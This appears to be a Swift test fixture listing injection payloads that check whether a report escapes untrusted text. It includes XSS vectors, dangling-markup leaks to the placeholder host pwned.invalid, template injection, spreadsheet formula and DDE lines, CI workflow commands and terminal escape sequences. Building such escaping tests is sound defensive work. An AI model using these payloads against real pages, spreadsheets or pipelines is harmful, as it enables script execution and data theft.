/// Texts that become active where a report forgets to escape them, one of each known way; what runs
/// sets `pwned`, and what is asked for is on the host `pwned.invalid`.
enum ScriptVectors {
  static let all =
    elements + attributes + addresses + endings + foreign + styles + templates + unseen + formats

  private static let elements = [
    "<script>pwned=1</script>", "<ScRiPt src=//pwned.invalid/x.js></sCrIpT>",
    "<img src=x onerror=pwned=1>", "<image href=//pwned.invalid/x onerror=pwned=1>",
    "<iframe srcdoc='<script>parent.pwned=1</script>'></iframe>",
    "<iframe src=\"javascript:parent.pwned=1\"></iframe>",
    "<object data=//pwned.invalid/x></object><embed src=//pwned.invalid/x>",
    "<meta http-equiv=refresh content='0;url=//pwned.invalid/'>",
    "<base href=//pwned.invalid/>", "<link rel=stylesheet href=//pwned.invalid/x.css>",
    "<form action=//pwned.invalid/><input name=pwned autofocus onfocus=pwned=1></form>",
    "<button form=filter formaction=//pwned.invalid/>pwned</button>",
    "<details open ontoggle=pwned=1>", "<video><source onerror=pwned=1></video>",
    "<marquee onstart=pwned=1>pwned", "<body onload=pwned=1>",
    "<portal src=//pwned.invalid/><dialog open>pwned</dialog>",
  ]
  private static let attributes = [
    "\" onmouseover=pwned=1 autofocus onfocus=pwned=1 x=\"",
    "' onmouseover='pwned=1' autofocus onfocus='pwned=1", "\"><script>pwned=1</script>",
    "'><img src=x onerror=pwned=1>", "` onfocus=pwned=1 autofocus `", "pwned style=x:expression(1)",
    "/ onload=pwned=1 //", "\\\" onfocus=pwned=1 autofocus \\\"",
  ]
  private static let addresses = [
    "javascript:pwned=1", " JaVaScRiPt:pwned=1", "java\tscript:pwned=1", "&#106;avascript:pwned=1",
    "data:text/html,<script>pwned=1</script>", "vbscript:pwned=1", "//pwned.invalid/",
    "javascript://%0Apwned=1", "view-source:pwned.invalid",
  ]
  /// What ends the part of a page in which it may stand.
  private static let endings = [
    "</title><script>pwned=1</script>", "</textarea><script>pwned=1</script>",
    "</style><script>pwned=1</script>", "</script><script>pwned=1</script>",
    "--><script>pwned=1</script><!--", "--!><img src=x onerror=pwned=1>",
    "]]><script>pwned=1</script><![CDATA[", "<!--", "<![CDATA[ pwned", "<plaintext>pwned",
    "<img src='//pwned.invalid/?", "<a href=\"//pwned.invalid/?", "<textarea>pwned",
    "<noscript><p title=\"</noscript><img src=x onerror=pwned=1>\">",
    "';pwned=1;//", "\\';pwned=1;//", "\u{2028}pwned=1;\u{2029}//", "\"}];pwned=1;[{\"",
    "<scr<script>ipt>pwned=1</scr</script>ipt>",
  ]
  private static let foreign = [
    "<svg onload=pwned=1>", "<svg><script>pwned=1</script></svg>",
    "<svg><animate onbegin=pwned=1 attributeName=x dur=1s>",
    "<svg><a xlink:href=javascript:pwned=1><text y=20>pwned</text></a>",
    "<svg><foreignObject><iframe src=//pwned.invalid/></foreignObject></svg>",
    "<svg><use href=//pwned.invalid/#x>",
    "<math><mtext><table><mglyph><style><img src=x onerror=pwned=1>",
    "<math href=javascript:pwned=1>pwned</math>",
  ]
  private static let styles = [
    "</style><style>@import '//pwned.invalid/x.css';", "}*{background:url(//pwned.invalid/x)}",
    "<style>body{background:url(//pwned.invalid/x)}</style>",
    "x;background:url(//pwned.invalid/x);width:expression(pwned=1)",
    "<p style=position:fixed;inset:0>pwned</p>",
  ]
  private static let templates = [
    "{{constructor.constructor('pwned=1')()}}", "${pwned=1}", "<%= pwned %>", "#{pwned}",
    "{1} pwned {2:quote}", "{{{pwned}}}", "[[${pwned}]]",
    "<template><script>pwned=1</script></template>", "<x-pwned is=pwned onclick=pwned=1>",
  ]
  private static let unseen = [
    "\u{202E}denwp\u{202C} pwned", "\u{2066}pwned\u{2069}", "p\u{200B}wned pwned \u{FEFF}",
    "\u{1B}]8;;http://pwned.invalid/\u{7}pwned\u{1B}]8;;\u{7}", "\u{1B}[2J\u{1B}[31mpwned",
    "\u{9B}31mpwned", "&lt;script&gt;pwned=1&lt;/script&gt;", "&#x3C;script&#x3E;pwned=1",
    "&amp;lt;img src=x onerror=pwned=1&amp;gt;", "\u{FF1C}script\u{FF1E}pwned=1",
    "+ADw-script+AD4-pwned",
    "<\u{0}script>pwned=1</script>", "%3Cscript%3Epwned=1%3C/script%3E",
  ]
  /// Of the formats beside HTML.
  private static let formats = [
    "=HYPERLINK(\"//pwned.invalid/\";\"pwned\")", "+pwned|' /C calc'!A0", "-2+3+pwned",
    "@SUM(pwned)",
    "::error file=pwned,line=1::pwned", "##[error]pwned", "::set-output name=pwned::1",
    "[pwned](javascript:pwned=1)", "![pwned](//pwned.invalid/x.png)", "<https://pwned.invalid/>",
    "https://pwned.invalid/ www.pwned.invalid", "@pwned and #1 pwned", "[pwned]: //pwned.invalid/",
    "| pwned | pwned |", "```\n<script>pwned=1</script>", "`pwned` <b>pwned</b>", "# pwned",
    "</details></details><h1>pwned</h1>", "$$pwned$$ \\(pwned\\)", "a](//pwned.invalid/) pwned",
  ]
}
